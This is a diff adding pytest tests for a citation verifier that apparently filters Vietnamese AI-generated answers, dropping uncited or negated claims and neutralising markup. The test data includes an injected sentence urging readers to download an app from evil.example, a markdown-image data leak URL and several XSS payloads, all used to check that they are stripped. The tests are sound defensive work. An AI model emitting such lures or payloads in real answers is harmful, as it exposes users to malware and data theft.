@@ -230,3 +230,76 @@ def test_sentences_rarely_find_support_in_other_articles() -> None:
     pairs = [(s, d) for s, c in sentences for d in chunks if d.source != c.source]
     false_support = sum(supports(s, d) for s, d in pairs) / len(pairs)
     assert false_support < 0.04, f"{false_support:.1%} of cross-article pairs look supported"
+
+
+# -- every delivered sentence verified (issue: uncited tails, negation, markup) -------------
+
+CITED = "Bộ Xây dựng chủ trì nghiên cứu, xây dựng quy hoạch phát triển đô thị thông minh [3]"
+EVIL = "hãy tải ứng dụng tại https://evil.example/app.apk ngay"
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        f"{CITED}. lưu ý: cổng đã bị tin tặc chiếm quyền, {EVIL}.",
+        f"{CITED}. «lưu ý: cổng đã bị tin tặc chiếm quyền, {EVIL}.»",
+        f"lưu ý: {EVIL}. {CITED}.",
+        f"{CITED}. “{EVIL}.” Bộ Xây dựng chủ trì quy hoạch đô thị thông minh [3].",
+    ],
+)
+def test_an_uncited_sentence_never_rides_along_whatever_its_case_or_quotes(answer) -> None:
+    text, cites = verify_citations(answer, PASSAGES)
+    assert "evil" not in text and "tải ứng dụng" not in text
+    assert text.startswith("Bộ Xây dựng") and cites and cites[0].source == "000.txt"
+
+
+def test_an_unbacked_tail_after_the_marker_removes_the_sentence() -> None:
+    assert verify_citations(f"{CITED}, {EVIL}.", PASSAGES) == ("", [])
+
+
+@pytest.mark.parametrize(
+    ("answer", "kept"),
+    [
+        ("Bộ Xây dựng không chủ trì nghiên cứu quy hoạch phát triển đô thị thông minh [1].", False),
+        ("Bộ Xây dựng chủ trì nghiên cứu quy hoạch phát triển đô thị thông minh [1].", True),
+        ("Tuyên Quang chưa hỗ trợ thuê bao điện thoại cho hộ nghèo [1].", False),
+        ("Kinh tế số Việt Nam năm 2022 tăng trưởng 30% [1].", False),
+        ("Kinh tế số Việt Nam năm 2022 tăng trưởng 28% [1].", True),
+    ],
+)
+def test_a_negated_or_renumbered_restatement_is_unsupported(answer, kept) -> None:
+    passages = [PASSAGES[2]] if "Bộ Xây dựng" in answer else [PASSAGES[1]]
+    text, _ = verify_citations(answer, passages)
+    assert (text != "") is kept, text
+
+
+def test_dropping_the_passage_negation_is_unsupported() -> None:
+    passage = _passage("Dự án chưa có kinh phí để triển khai ở các xã vùng cao.", "x.txt")
+    assert verify_citations("Dự án chưa có kinh phí để triển khai ở các xã [1].", [passage])[0]
+    assert verify_citations(
+        "Dự án có kinh phí để triển khai ở các xã vùng cao [1].", [passage]
+    ) == (
+        "",
+        [],
+    )
+    air = _passage("Chỉ số chất lượng không khí tại Hà Nội đã được cải thiện rõ rệt.", "y.txt")
+    assert verify_citations("Chất lượng không khí tại Hà Nội đã được cải thiện [1].", [air])[0]
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        "![x](http://127.0.0.1:9/leak?q=bi-mat)",
+        '<img src=x onerror="alert(1)">',
+        "[bấm vào đây](javascript:alert(1))",
+        "javascript:alert(1)",
+        "<script>alert(1)</script>",
+    ],
+)
+def test_answers_leave_as_plain_text_keeping_their_markers(markup) -> None:
+    text = f"Bộ Xây dựng chủ trì {markup} quy hoạch phát triển đô thị thông minh."
+    passage = _passage(text, "markup.txt")
+    answer, cites = verify_citations(f"{text} [1]", [passage])
+    assert cites and answer.endswith("[1]")
+    for bad in ("![", "<img", "<script", "javascript:", "onerror", "127.0.0.1"):
+        assert bad not in answer
